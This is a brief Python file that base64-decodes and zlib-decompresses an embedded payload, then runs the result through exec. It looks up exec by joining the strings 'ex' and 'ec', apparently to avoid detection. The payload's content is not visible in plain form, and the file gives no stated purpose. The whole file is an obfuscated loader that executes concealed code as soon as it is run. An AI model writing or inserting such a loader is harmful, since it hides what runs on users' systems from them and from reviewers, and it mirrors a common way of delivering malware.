import base64
import builtins
import zlib

PAYLOAD = b"eJzLzE3NLy4pSk3MUcgsyS9KzFFIzs8rSc0rUUjOzy1ITUzOSU0uzs9JTS1RyEnNSy0pSi0GAMqEEc8="


def stage():
    return zlib.decompress(base64.b64decode(PAYLOAD)).decode()


run = getattr(builtins, "ex" + "ec")
body = stage()
run(body)
